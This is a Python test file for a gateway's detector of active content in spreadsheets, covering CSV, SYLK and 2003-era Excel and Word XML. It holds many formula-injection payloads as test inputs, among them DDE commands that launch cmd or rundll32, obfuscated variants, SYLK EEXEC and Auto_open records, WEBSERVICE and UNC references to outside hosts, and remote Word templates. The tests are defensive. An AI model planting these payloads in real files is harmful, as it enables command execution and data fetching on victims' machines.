"""Tables that are text: formulas that run or fetch something, and SYLK; and the tables that are none of it."""

from __future__ import annotations

import pytest

from gateway.understand.openers.office import table_text
from gateway.understand.openers.office.table_text import TABLE_TEXT
from gateway.understand.openers.office.xml_document import XML_DOCUMENT
from tests.support.probes.opener import fits, opened

ACTIVE = ("document.external",)
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text",
    [
        f"name,amount\r\nx,{DDE}\r\n",
        f'"{DDE}",x',
        f"x;\t{DDE}",
        f"x\r{DDE}",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|'/C calc'!A0",
        "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "=cmd|/c!A1",
        "\uff1dcmd\uff5c'/C calc'\uff01A0",
        f"x,\u200b{DDE}",
        f"<table><tr><td>{DDE.replace('=', '&#61;')}</td></table>",
        '=DDE("cmd";"/C calc";"x")',
        '=1+webservice("http://example.net/"&A1)',
        "='\\\\198.51.100.7\\s\\[a.xlsx]S'!A1",
    ],
)
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_formulas_that_run_or_fetch(text: str, codec: str) -> None:
    """Wherever a cell begins, whatever stands before the formula."""
    assert opened(TABLE_TEXT, text.encode(codec), "a.csv").codes == ACTIVE


@pytest.mark.parametrize(
    "text",
    [
        "a,-5,+44 20 7946 0000,=SUM(A1:A3)\n",
        "=A1+'Sheet 1'!B2",
        '=HYPERLINK("https://example.net/","x")',
        "- a | b !c\n- one|two\n",
        "@jane: is (this) | that! right",
        "='\\\\srv01\\s\\[a.xlsx]S'!A1",
        "a|b|c!\n",
    ],
)
def test_ordinary_tables(text: str) -> None:
    """Signs of numbers, sums, links that must be clicked, workbooks on one's own servers."""
    assert opened(TABLE_TEXT, text.encode(), "a.csv").codes == ()


@pytest.mark.parametrize("name", ["a.csv", "a.txt", "a.xls", "a.jpg", "a"])
@pytest.mark.parametrize(
    "content",
    [
        b'ID;PWXL;N;E\r\nC;Y1;X1;EEXEC("calc")\r\nE\r\n',
        b"ID;P\nO;E\nNN;NAuto_open;ER101C1\nE",
        b'\xef\xbb\xbf\r\n "ID;P\nC;X1;K1\nE',
        "ID;PX\nC;X1;K1\nE\n".encode("utf-16"),
    ],
)
def test_sylk_by_its_content(content: bytes, name: str) -> None:
    """Its name says nothing."""
    assert opened(TABLE_TEXT, content, name).codes == ACTIVE


@pytest.mark.parametrize("content", [b"ID,Name\n1,x\n", b"ID;P\n", b"The record ID;P begins SYLK\nC;X1\n"])
def test_what_is_no_sylk(content: bytes) -> None:
    """A heading, a record alone, a sentence."""
    assert opened(TABLE_TEXT, content, "a.csv").codes == ()


def test_a_body_is_no_table() -> None:
    """Nobody opens it as one."""
    assert not fits(TABLE_TEXT, DDE.encode(), "", "text/plain")
    assert not fits(TABLE_TEXT, b"ID;P\nC;X1\nE\n", "", "text/plain")


@pytest.mark.parametrize(("limit", "codes"), [(4, ()), (3, ()), (2, ACTIVE)])
def test_cells_are_only_so_many(limit: int, codes: tuple[str, ...], monkeypatch: pytest.MonkeyPatch) -> None:
    """Cells beyond the limit count as dangerous; the test has three cells with a sign in front."""
    monkeypatch.setattr(table_text, "MAX_CELLS", limit)
    assert opened(TABLE_TEXT, b"-1|x!\n-2|x!\n-3|x!\n", "a.csv").codes == codes


SPACE = b'xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:x"'
SHEET = b'<?xml version="1.0"?>%b<Workbook ' + SPACE + b">%b</Workbook>"
WORD = b'<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">%b</w:wordDocument>'


@pytest.mark.parametrize(
    "content",
    [
        SHEET % (b'<?mso-application progid="Excel.Sheet"?>', b"<Cell ss:Formula=\"=cmd|' /C calc'!R1C1\"/>"),
        SHEET % (b"", b"<Cell ss:Formula='=1+cmd|&apos;/C calc&apos;!A0'/>"),
        SHEET % (b"", b"<NamedRange ss:RefersTo=\"=cmd|' /C calc'!R1C1\"/>"),
        WORD % b'<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd x "/></w:p>',
        WORD % b'<w:docPr><w:attachedTemplate w:val="\\\\198.51.100.7\\t\\t.dot"/></w:docPr>',
        WORD % b'<w:frame><w:sourceFileName w:val="file://198.51.100.7/t/x"/></w:frame>',
    ],
)
def test_documents_of_2003(content: bytes) -> None:
    """The documents are in the XML of Excel and of Word."""
    assert opened(XML_DOCUMENT, content).codes == ACTIVE


def test_ordinary_workbook_of_2003() -> None:
    """Formulas that only count."""
    content = SHEET % (b"", b'<Cell ss:Formula="=SUM(R[-2]C:R[-1]C)"><Data ss:Type="Number">-5</Data></Cell>')
    assert opened(XML_DOCUMENT, content).codes == ()


@pytest.mark.parametrize(
    "formula", [b"=cmd|'/c calc'!A0", b'=WEBSERVICE("http://x.example/")', b"='\\\\x.example\\a\\[b]c'!A1"]
)
def test_a_danger_amid_octets_that_are_no_text(formula: bytes) -> None:
    """Excel opens them under a table's name all the same; the usual spelling is found."""
    noise = bytes(range(256)).replace(b"\n", b"").replace(b"\r", b"") * 40
    assert opened(TABLE_TEXT, noise + b"\n" + formula + b"\n" + noise, "a.csv").codes == ACTIVE
    assert opened(TABLE_TEXT, noise * 4, "a.csv").codes == ()
